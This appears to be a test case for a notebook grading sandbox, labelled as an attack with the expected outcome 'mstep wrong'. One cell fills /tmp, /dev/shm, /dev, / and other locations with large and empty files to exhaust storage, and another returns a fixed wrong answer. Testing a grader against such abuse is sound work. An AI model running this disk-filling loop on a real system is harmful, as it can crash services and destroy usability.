# attack: fills the scratch folder, with large files and with empty ones
# outcome: mstep wrong
# seconds: 20
# %% cell added
for place in ("/tmp", "/dev/shm", "/dev", "/", "/var/tmp", "."):
    for number in range(100_000):
        try:
            with open(f"{place}/{number}", "wb") as file:
                file.write(bytes(32 << 20) if number < 20 else b"")
        except OSError:
            break

# %% cell mstep
def mstep(x, posterior):
    return 1, 2, 3
